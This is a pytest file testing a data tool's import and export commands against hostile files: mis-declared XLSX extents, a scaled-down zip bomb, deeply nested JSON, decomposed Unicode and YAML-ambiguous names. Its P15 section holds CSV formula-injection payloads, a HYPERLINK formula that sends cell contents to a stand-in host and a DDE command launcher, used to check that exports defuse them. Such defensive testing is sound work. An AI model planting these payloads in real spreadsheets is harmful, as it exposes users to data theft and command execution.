"""What the fifth hostile tester fed `cedta import` and `cedta export` (notes-hostile5, P8 P13 P14 P15
P17): a workbook whose sheet declares a wrong extent, JSON nested without end, names a spreadsheet
runs as formulas, text in decomposed Unicode, organisation names YAML would misread. Each through the
real CLI, asserting what a user sees."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import pytest

HEADER = ["Organisation", "Topic", "Mode", "Language", "Level", "Fees", "Availability", "Service id"]


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def _row(name: str) -> list[str]:
    return [name, "Marketing", "Workshops", "English", "beginner", "Free", "", ""]


def _write_csv(path: Path, rows: list[list[str]]) -> Path:
    buf = io.StringIO()
    csv.writer(buf).writerows([HEADER] + rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _workbook(path: Path, rows: list[tuple[int, list[str]]], dimension: str | None) -> Path:
    """An XLSX file with `rows` (row number, cells) whose sheet declares `dimension`, as tools other
    than Excel write it (openpyxl writes the true one; it is rewritten in the archive)."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for number, cells in rows:
        for column, value in enumerate(cells, 1):
            sheet.cell(row=number, column=column, value=value)
    buf = io.BytesIO()
    book.save(buf)
    if dimension is None:
        path.write_bytes(buf.getvalue())
        return path
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(rb'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}"/>'.encode(), data)
                assert n == 1
            out.writestr(info, data)
    return path


# ---- P13: an XLSX sheet is read to the end of its data, whatever extent it declares ---------------

@pytest.mark.parametrize("dimension", ["A1:H3", "A1", "A1:C6", "C3:D4"])
def test_a_sheet_declaring_a_smaller_extent_is_read_whole(tmp_path, cedta, data, dimension):
    rows = [(1, HEADER)] + [(n + 2, _row(f"Dim Org {n}")) for n in range(5)]
    book = _workbook(tmp_path / "dim.xlsx", rows, dimension)
    r = cedta(data, "import", "providers", str(book), "--dry-run")
    assert r.exit_code == 0, r.output
    for n in range(5):
        assert f"+ Dim Org {n}: new organisation, 1 service" in r.output
    assert "5 files would be written" in r.output


def test_with_an_openpyxl_whose_parser_differs_the_sheet_is_still_read_whole(tmp_path, cedta, data, monkeypatch):
    import openpyxl.worksheet._reader as reader

    def other_parser(*args, **kwargs):
        raise TypeError("another openpyxl")

    monkeypatch.setattr(reader, "WorkSheetParser", other_parser)
    rows = [(1, HEADER)] + [(n + 2, _row(f"Dim Org {n}")) for n in range(5)]
    r = cedta(data, "import", "providers", str(_workbook(tmp_path / "dim.xlsx", rows, "A1:H3")), "--dry-run")
    assert r.exit_code == 0, r.output
    assert "+ Dim Org 4: new organisation, 1 service" in r.output


def test_a_sheet_declaring_the_whole_grid_is_read_in_the_time_of_its_rows(tmp_path, data):
    # 5 KB declaring A1:XFD1048576 with its one service on the last row (was: over 60 s, killed)
    rows = [(1, HEADER), (1_048_576, _row("Far Down Org"))]
    book = _workbook(tmp_path / "grid.xlsx", rows, "A1:XFD1048576")
    run = subprocess.run([sys.executable, "-m", "cedta", "--today", "2026-11-26", "--data", str(data.root),
                          "import", "providers", str(book), "--dry-run"],
                         capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert "+ Far Down Org: new organisation, 1 service" in run.stdout


def test_a_value_far_right_of_the_columns_is_refused_with_its_place(tmp_path, cedta, data):
    book = _workbook(tmp_path / "wide.xlsx", [(1, HEADER), (2, _row("Wide Org") + [""] * 400 + ["stray"])], None)
    before = _files(data.root)
    r = cedta(data, "import", "providers", str(book))
    assert r.exit_code == 1, r.output
    assert "wide.xlsx[Sheet]:2:" in r.output and "a value outside the headed columns: `stray`" in r.output
    assert _files(data.root) == before


@pytest.mark.parametrize("lang,word", [("en", "unpacks to"), ("fr", "une fois décompressé")])
def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(tmp_path, cedta, data, monkeypatch,
                                                                           lang, word):
    from cedta.interop import sheets

    monkeypatch.setattr(sheets, "XLSX_LIMIT", 2000)  # a zip bomb, scaled down
    book = _workbook(tmp_path / "bomb.xlsx", [(1, HEADER), (2, _row("Org"))], None)
    r = cedta(data, "import", "providers", str(book), lang=lang)
    assert r.exit_code == 1, r.output
    assert "bomb.xlsx" in r.output and word in r.output


# ---- P14: JSON nested without end, or with a number too long, is a message naming the file --------

@pytest.mark.parametrize("lang,word", [("en", "nested more than 64 levels"), ("fr", "imbriqué sur plus de 64 niveaux")])
def test_deeply_nested_json_is_a_message_naming_the_file(tmp_path, cedta, data, lang, word):
    deep = tmp_path / "deep2.json"
    deep.write_text('{"organizations": ' + "[" * 200_000 + "]" * 200_000 + "}")
    package = tmp_path / "deeppkg"
    package.mkdir()
    (package / "datapackage.json").write_text('{"resources": ' + "[" * 200_000 + "]" * 200_000 + "}")
    for target, shown in ((deep, "deep2.json"), (package, "datapackage.json")):
        r = cedta(data, "import", "hsds", str(target), "--dry-run", lang=lang)
        assert r.exit_code == 1, r.output
        assert shown in r.output and word in r.output and "Traceback" not in r.output


def test_a_json_number_of_5000_digits_is_a_message_not_a_traceback(tmp_path, cedta, data):
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "datapackage.json").write_text('{"resources": [], "n": ' + "1" * 5000 + "}")
    r = cedta(data, "import", "hsds", str(package))
    assert r.exit_code == 1
    assert "datapackage.json: a number of more than 4,300 digits" in r.output


def test_a_descriptor_that_is_not_utf8_gives_its_line_and_column(tmp_path, cedta, data):
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "datapackage.json").write_bytes(b'{"a":\n "\xe9"}')
    r = cedta(data, "import", "hsds", str(package), lang="fr")
    assert r.exit_code == 1
    assert "datapackage.json:2:3 : l'octet 0xE9 n'est pas de l'UTF-8".replace("'", "\u2019") in r.output
    assert "codec" not in r.output


def test_a_deeply_nested_attribute_value_is_that_rows_problem(tmp_path, cedta, data):
    package = tmp_path / "pkg"
    assert cedta(data, "export", "hsds", "--out", str(package)).exit_code == 0
    lines = (package / "attributes.csv").read_text(encoding="utf-8").splitlines()
    number = next(i for i, line in enumerate(lines) if ",name,organization," in line)
    cells = next(csv.reader([lines[number]]))
    cells[-1] = "[" * 5000 + "]" * 5000
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(cells)
    lines[number] = buf.getvalue()
    (package / "attributes.csv").write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    r = cedta(data, "import", "hsds", str(package), "--dry-run")
    assert r.exit_code == 1, r.output
    assert f"attributes.csv:{number + 1}:value: value is not the JSON cedta writes" in r.output
    assert "Traceback" not in r.output


def test_a_csv_with_carriage_returns_alone_says_so(tmp_path, cedta, data):
    mac = tmp_path / "mac.csv"
    mac.write_bytes(("\r".join([",".join(HEADER), ",".join(_row("CR Org"))]) + "\r").encode())
    r = cedta(data, "import", "providers", str(mac), "--dry-run")
    assert r.exit_code == 1
    assert "mac.csv:1: a line ends with a carriage return alone" in r.output
    assert "universal-newline" not in r.output


# ---- P15: no CSV cedta writes holds a cell a spreadsheet would run; its imports take the mark off ---

FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0")


def _formula_data(data) -> None:
    text = data.read("providers/acme-centre.yaml")
    first = re.search(r"^name: .*$", text, re.M).group(0)
    en, fr = (n.replace("\\", "\\\\").replace('"', '\\"') for n in FORMULA_NAMES)
    text = text.replace(first, f'name: {{en: "{en}", fr: "{fr}"}}', 1)
    text = text.replace("  - id: marketing-consulting\n", '  - id: marketing-consulting\n    name: {en: "+1+2", fr: "-2+3"}\n', 1)
    data.write("providers/acme-centre.yaml", text)


def _live_cells(folder: Path) -> list[str]:
    found = []
    for path in sorted(folder.glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            found += [c for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                      and not re.fullmatch(r"[-+]?\d+(\.\d+)?", c)]
    return found


def test_every_csv_export_writes_formula_like_text_inert(tmp_path, cedta, data):
    _formula_data(data)
    assert cedta(data, "validate").exit_code == 0
    package, sheet = tmp_path / "pkg", tmp_path / "sheet"
    sheet.mkdir()
    assert cedta(data, "export", "hsds", "--out", str(package)).exit_code == 0
    assert cedta(data, "export", "csv", "--out", str(sheet / "services.csv")).exit_code == 0
    for folder in (package, sheet):
        assert _live_cells(folder) == []
    organizations = (package / "organizations.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in organizations and "'@SUM" in organizations
    assert "'+1+2" in (package / "services.csv").read_text(encoding="utf-8")


def test_an_hsds_export_with_inert_cells_reads_back_the_same(tmp_path, cedta, data):
    _formula_data(data)
    package = tmp_path / "pkg"
    assert cedta(data, "export", "hsds", "--out", str(package)).exit_code == 0
    before = _files(data.root)
    r = cedta(data, "import", "hsds", str(package))
    assert r.exit_code == 0, r.output
    assert "No change to the records." in r.output
    assert _files(data.root) == before
    target = tmp_path / "empty" / "data"
    target.mkdir(parents=True)
    r = cedta(target, "import", "hsds", str(package))
    assert r.exit_code == 0, r.output
    r = cedta(target, "export", "hsds", "--out", str(tmp_path / "again"))
    assert r.exit_code == 0, r.output
    assert (tmp_path / "again" / "organizations.csv").read_bytes() == (package / "organizations.csv").read_bytes()


# ---- P17: what is read is in composed Unicode (NFC), whatever form the file was saved in ----------

def test_a_decomposed_french_export_imports_as_no_change(tmp_path, cedta, data):
    data.write("providers/acme-centre.yaml", data.read("providers/acme-centre.yaml").replace(
        "fees:\n      - {amount: 25, unit: session, minutes: 30}",
        "fees:\n      - {amount: 25, unit: session, minutes: 30, label: {en: after coffee, fr: après le café}}"))
    assert cedta(data, "validate").exit_code == 0
    exported = tmp_path / "nfc.csv"
    assert cedta(data, "export", "csv", "--out", str(exported), lang="fr").exit_code == 0
    assert "après le café" in exported.read_text(encoding="utf-8-sig")
    nfd = tmp_path / "nfd.csv"
    nfd.write_text(unicodedata.normalize("NFD", exported.read_text(encoding="utf-8-sig")), encoding="utf-8-sig")
    assert nfd.read_bytes() != exported.read_bytes()
    before = _files(data.root)
    r = cedta(data, "import", "providers", str(nfd), lang="fr")
    assert r.exit_code == 0, r.output
    assert "Aucun changement aux enregistrements." in r.output and "laissée de côté" not in r.output
    assert _files(data.root) == before


def test_a_decomposed_workbook_and_package_import_as_no_change(tmp_path, cedta, data):
    from openpyxl import load_workbook

    book = tmp_path / "s.xlsx"
    assert cedta(data, "export", "xlsx", "--out", str(book), lang="fr").exit_code == 0
    wb = load_workbook(book)
    for row in wb.active.iter_rows():
        for c in row:
            if isinstance(c.value, str):
                c.value = unicodedata.normalize("NFD", c.value)
    wb.active.title = unicodedata.normalize("NFD", "Données")
    wb.save(book)
    package = tmp_path / "pkg"
    assert cedta(data, "export", "hsds", "--out", str(package), lang="fr").exit_code == 0
    for table in package.glob("*.csv"):
        table.write_text(unicodedata.normalize("NFD", table.read_text(encoding="utf-8")), encoding="utf-8")
    before = _files(data.root)
    for args in (["providers", str(book)], ["providers", str(book), "--sheet", "Données"], ["hsds", str(package)]):
        r = cedta(data, "import", *args, lang="fr")
        assert r.exit_code == 0, r.output
        assert "Aucun changement aux enregistrements." in r.output
    assert _files(data.root) == before


# ---- P8: names YAML would misread are written quoted; a row still refused is named -----------------

ODD_NAMES = ["?Quoi", "?? Org", "2026-01-01", "yes", "null", "- x", "#x", "*x", "&x", "!x", "%x", "@x",
             "Name: with colon", "a, b", "[x]", "{y}", "~", "12:30", "0123", "1e3", "on", "'q'", '"dq"', "|p",
             ">f", "Org #1", "x:y", "true", "1_000", ".5", "No"]


def test_organisation_names_yaml_would_misread_are_imported_as_written(tmp_path, cedta):
    target = tmp_path / "data"
    target.mkdir()
    sheet = _write_csv(tmp_path / "odd.csv", [_row(n) for n in ODD_NAMES])
    r = cedta(target, "import", "providers", str(sheet))
    assert r.exit_code == 0, r.output
    assert f"wrote {len(ODD_NAMES)} files" in r.output
    assert cedta(target, "validate").exit_code == 0
    again = cedta(target, "import", "providers", str(sheet), "--dry-run")
    assert again.exit_code == 0 and "No change to the records." in again.output, again.output
    exported = tmp_path / "back.csv"
    assert cedta(target, "export", "csv", "--out", str(exported)).exit_code == 0
    names = {row[0] for row in csv.reader(io.StringIO(exported.read_text(encoding="utf-8-sig")))}
    assert set(ODD_NAMES) - {"- x", "@x"} <= names and {"'- x", "'@x"} <= names  # inert, as P15 wants
    assert "id: '2026-01-01'" in (target / "providers" / "2026-01-01.yaml").read_text()


def test_names_with_spaces_at_the_ends_come_through_hsds(tmp_path, cedta, data):
    text = data.read("providers/acme-centre.yaml")
    data.write("providers/acme-centre.yaml", text.replace(
        "name: {en: Acme Enterprise Centre, fr: Centre d'entreprise Acme}",
        "name: {en: ' ?Quoi ', fr: '2026-01-01'}"))
    assert cedta(data, "validate").exit_code == 0
    package = tmp_path / "pkg"
    assert cedta(data, "export", "hsds", "--out", str(package)).exit_code == 0
    target = tmp_path / "empty" / "data"
    target.mkdir(parents=True)
    r = cedta(target, "import", "hsds", str(package))
    assert r.exit_code == 0, r.output
    from cedta.io.yamlread import parse

    record = parse((target / "providers" / "acme-centre.yaml").read_text()).data
    assert record["name"] == {"en": " ?Quoi ", "fr": "2026-01-01"}


@pytest.mark.parametrize("lang,word", [("en", "row left out: the provider file it makes would not be valid"),
                                       ("fr", "ligne laissée de côté : le fichier du fournisseur")])
def test_a_row_whose_record_would_be_invalid_is_named_and_left_out(tmp_path, cedta, lang, word):
    target = tmp_path / "data"
    target.mkdir()
    sheet = _write_csv(tmp_path / "bad.csv", [_row("Good Org"), _row("Multi\x01Ctl"), _row("Other Org")])
    r = cedta(target, "import", "providers", str(sheet), lang=lang)
    assert r.exit_code == 1, r.output
    assert "bad.csv:3" in r.output and word in r.output and "U+0001" in r.output
    assert sorted(p.name for p in (target / "providers").iterdir()) == ["good-org.yaml", "other-org.yaml"]


def test_an_hsds_organisation_whose_record_would_be_invalid_is_named_and_left_out(tmp_path, cedta, data):
    package = tmp_path / "pkg"
    assert cedta(data, "export", "hsds", "--out", str(package)).exit_code == 0
    table = package / "organizations.csv"
    text = table.read_text(encoding="utf-8")
    assert "Acme Enterprise Centre" in text
    table.write_text(text.replace("Acme Enterprise Centre", "Acme\x01Centre"), encoding="utf-8")
    line = next(n for n, row in enumerate(text.splitlines(), 1) if "Acme Enterprise Centre" in row)
    target = tmp_path / "empty" / "data"
    target.mkdir(parents=True)
    r = cedta(target, "import", "hsds", str(package), lang="fr")
    assert r.exit_code == 1, r.output
    assert f"organizations.csv:{line}: organisme laissé de côté" in r.output and "U+0001" in r.output
    assert "écrit 1 fichier (0 services lus)" in r.output  # beta-coop's none, not acme-centre's two
    assert sorted(p.name for p in (target / "providers").iterdir()) == ["beta-coop.yaml"]
